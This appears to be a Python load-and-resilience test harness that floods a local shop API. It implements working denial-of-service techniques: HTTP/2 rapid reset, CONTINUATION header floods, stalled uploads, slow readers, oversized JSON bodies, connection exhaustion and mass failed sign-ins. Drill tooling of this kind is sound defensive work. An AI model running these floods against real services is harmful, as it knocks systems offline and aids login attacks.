"""Clients that mean harm, for tests/drills/floods: each a function that floods a shop until it is ended, and a process of its
own, niced: `flooders.py NAME HOST GRPC TOKEN ID`."""

import asyncio, itertools, json, resource, socket, struct, sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
HEADERS, DATA, RESET, CONTINUATION = 1, 0, 3, 9
done = 0


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header that no table remembers (RFC 7541, 6.2.2), with texts as they are."""
    text = lambda it: integer(len(it)) + it
    return b"\0" + text(name.encode()) + text(value.encode())


def integer(number):
    if number < 127:
        return bytes([number])
    number -= 127
    rest = []
    while number >= 128:
        rest.append(number % 128 + 128)
        number //= 128
    return bytes([127, *rest, number])


def head(method, path, **more):
    fields = {":method": method, ":scheme": "http", ":path": path, ":authority": "x", **more}
    return b"".join(literal(name.replace("_", "-"), value) for name, value in fields.items())


async def connect(host, source=None):
    name, port = host.split(":")
    local = (source, 0) if source else None
    return await asyncio.open_connection(name, int(port), local_addr=local)


def source(number):
    """One of many addresses of this machine."""
    return f"127.1.{number // 250 % 250}.{number % 250 + 1}"


async def forever(work, count):
    """So many at a time, each again when it has ended."""

    async def again(number):
        while True:
            try:
                await work(number)
            except (OSError, EOFError, asyncio.IncompleteReadError):
                await asyncio.sleep(0.02)

    await asyncio.gather(*(again(number) for number in range(count)))


async def keep(open_one, count):
    """So many connections that stay open; who is put out comes again after a while."""

    async def one(number):
        while True:
            try:
                reader, writer = await open_one(number)
                while await reader.read(65536):
                    pass
                writer.close()
            except OSError:
                pass
            await asyncio.sleep(1)

    await asyncio.gather(*(one(number) for number in range(count)))


async def request(streams, text):
    """One request on a connection that is kept; its status."""
    global done
    reader, writer = streams
    writer.write(text)
    lines = (await reader.readuntil(b"\r\n\r\n")).decode().lower().split("\r\n")
    length = next((int(line.split(":")[1]) for line in lines if line.startswith("content-length:")), 0)
    await reader.readexactly(length)
    done += 1
    return int(lines[0].split()[1])


def http1(method, path, body=b"", token=None, more=""):
    known = f"authorization: Bearer {token}\r\n" if token else ""
    head = f"{method} {path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n{known}{more}"
    return f"{head}content-length: {len(body)}\r\n\r\n".encode() + body


async def stalled_bodies(host, grpc, token, article):
    async def one(number):
        reader, writer = await connect(host, source(number))
        writer.write(http1("POST", f"/v1/articles/{article}/image", token=token).replace(
            b"content-length: 0", b"content-length: 4194304").replace(b"application/json", b"image/png"))
        writer.write(b"x" * 4194303)
        return reader, writer

    await keep(one, 200)


async def unfinished_messages(host, grpc, token, article):
    async def one(number):
        reader, writer = await connect(grpc, source(number))
        writer.write(PREFACE)
        fields = {"content-type": "application/grpc", "te": "trailers", "authorization": f"Bearer {token}"}
        for stream in range(1, 200, 2):
            path = "/feira.article.v1.ArticleService/UploadImage"
            writer.write(frame(HEADERS, 4, stream, head("POST", path, **fields)))
            writer.write(frame(DATA, 0, stream, b"\0\0\x3f\xff\xff" + b"x" * 16000))
        return reader, writer

    await keep(one, 20)


async def sign_ins(host, at_once, rate=None):
    """Wrong ones, of nobody, from many addresses."""
    numbers = itertools.count()

    async def one(_):
        number = next(numbers)
        reader, writer = await connect(host, source(number))
        body = json.dumps({"login": f"nobody-{number}", "password": "not right"}).encode()
        try:
            await request((reader, writer), http1("POST", "/v1/auth:signIn", body))
        finally:
            writer.close()

    if rate is None:
        return await forever(one, at_once)
    tasks = set()
    while True:
        for _ in range(rate // 20):
            task = asyncio.create_task(one(0))
            tasks.add(task)
            task.add_done_callback(lambda task: (tasks.discard(task), task.cancelled() or task.exception()))
        await asyncio.sleep(0.05)


async def sign_ins_at_once(host, grpc, token, article):
    await sign_ins(host, 400)


async def sign_ins_700_a_second(host, grpc, token, article):
    await sign_ins(host, 0, 700)


async def silent_connections(host, grpc, token, article):
    async def one(number):
        reader, writer = await connect(host)
        writer.write(PREFACE)
        return reader, writer

    await keep(one, 10_000)


async def watches(host, grpc, token, article):
    async def one(number):
        reader, writer = await connect(host, source(number))
        writer.write(http1("GET", f"/v1/orders/{article}:watch", token=token))
        return reader, writer

    await keep(one, 3_000)


async def long_lists(host, grpc, token, article):
    """As many lines of nothing as the largest body has room for, by one who may order."""
    body = b'{"lines":[' + b"{}," * 85_000 + b"{}]}"
    streams = {}

    async def one(number):
        if number not in streams:
            streams[number] = await connect(host, source(number))
        try:
            await request(streams[number], http1("POST", "/v1/orders", body, token))
        except (OSError, EOFError):
            streams.pop(number)
            raise

    await forever(one, 16)


async def long_lists_of_strangers(host, grpc, token, article):
    body = b'{"lines":[' + b'"",' * 1_300_000 + b'""]}'

    async def one(number):
        streams = await connect(host, source(number))
        try:
            await request(streams, http1("POST", "/v1/auth:signIn", body))
        finally:
            streams[1].close()

    await forever(one, 16)


async def slow_readers(host, grpc, token, article):
    async def one(number):
        reader, writer = await connect(host, source(number))
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        writer.write(http1("GET", "/v1/articles?pageSize=1000") * 4)
        await asyncio.sleep(60)
        return reader, writer

    await keep(one, 200)


async def rapid_reset(host, grpc, token, article):
    global done
    block = head("GET", "/v1/articles?pageSize=100")

    async def one(number):
        global done
        reader, writer = await connect(host, source(number))
        writer.write(PREFACE)
        try:
            for stream in itertools.count(1, 2):
                writer.write(frame(HEADERS, 5, stream, block) + frame(RESET, 0, stream, b"\0\0\0\x08"))
                done += 1
                if stream % 64 == 1:
                    await writer.drain()
                    if writer.is_closing():
                        break
        finally:
            writer.close()

    await forever(one, 8)


async def endless_headers(host, grpc, token, article):
    block = literal("x", "a" * 200) * 70

    async def one(number):
        global done
        reader, writer = await connect(host, source(number))
        writer.write(PREFACE + frame(HEADERS, 0, 1))
        try:
            while True:
                writer.write(frame(CONTINUATION, 0, 1, block))
                done += 1
                await writer.drain()
                if writer.is_closing():
                    break
        finally:
            writer.close()

    await forever(one, 8)


async def pages(host, path):
    streams, numbers = {}, itertools.count()

    async def one(number):
        if number not in streams:
            streams[number] = await connect(host, source(number))
        try:
            await request(streams[number], http1("GET", path.format(next(numbers))))
        except (OSError, EOFError):
            streams.pop(number)
            raise

    await forever(one, 32)


async def documents(host, grpc, token, article):
    await pages(host, "/openapi.json")


async def docs_page(host, grpc, token, article):
    await pages(host, "/docs")


async def nothing_there(host, grpc, token, article):
    await pages(host, "/nothing/{}")


async def main():
    name, *rest = sys.argv[1:]
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    flood = asyncio.create_task(globals()[name](*rest))
    # Ends with its parent's word, and says how often it has done it.
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    print(done, flush=True)
    flood.cancel()


if __name__ == "__main__":
    asyncio.run(main())
